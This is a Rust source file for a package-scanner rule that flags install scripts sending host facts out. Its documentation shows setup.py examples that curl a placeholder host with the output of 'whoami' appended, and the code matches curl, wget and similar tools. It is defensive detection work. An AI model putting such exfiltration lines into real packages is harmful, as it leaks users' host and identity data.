//! ## What it detects
//!
//! A command that sends out what it has read: `curl` or a name lookup with the output of `whoami`,
//! the environment or a file in it; or one that is put together from facts about the host.
//!
//! ## Why it is bad
//!
//! It needs no network code in Python. Dependency-confusion packages report their victims this way.
//!
//! ## Innocent lookalikes
//!
//! Release scripts that upload a build result; they run when a maintainer calls them.
//!
//! ## Bad
//!
//! ```python setup.py
//! import os
//! os.system('curl https://a.example.invalid/?u=$(whoami)')
//! ```
//!
//! ```python setup.py
//! import os
//! who = os.popen('whoami').read()
//! os.system('curl https://a.example.invalid/?u=' + who)
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import os
//! os.system('curl -O https://a.example.invalid/model.bin')
//! ```

use fondaco_python::scripts::{Act, acts, command_acts};
use fondaco_python::{Api, Taint};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("command-exfiltration"),
    title: "a command sends facts about the host out",
    severity: Severity::High,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::Exfiltration),
    weight: 1.6,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls().filter(|(_, call)| call.api == Some(Api::Shell)) {
        let texts = call.texts();
        let sends = texts.iter().any(|text| command_acts(text).contains(&Act::Send));
        let is_asked = !call.trigger.is_some_and(fondaco_verdict::Trigger::is_unasked);
        let facts = call.taint().has(Taint::HOST | Taint::COMMAND_OUTPUT | Taint::SECRET);
        let carries = |text: &&str| {
            let lower = text.to_ascii_lowercase();
            lower.contains("://") && ["curl", "wget", "invoke-webrequest", "iwr "].iter().any(|tool| lower.contains(tool))
        };
        if sends || facts && !is_asked && texts.iter().any(carries) {
            hits.call(unit, call, "a command that sends out what it has read");
        }
    }
    for unit in package.units().filter(|unit| unit.layer > 0) {
        if acts(unit.language, &unit.text).contains(&Act::Send) {
            hits.line(unit, 1, "a hidden script that sends out what it has read");
        }
    }
}
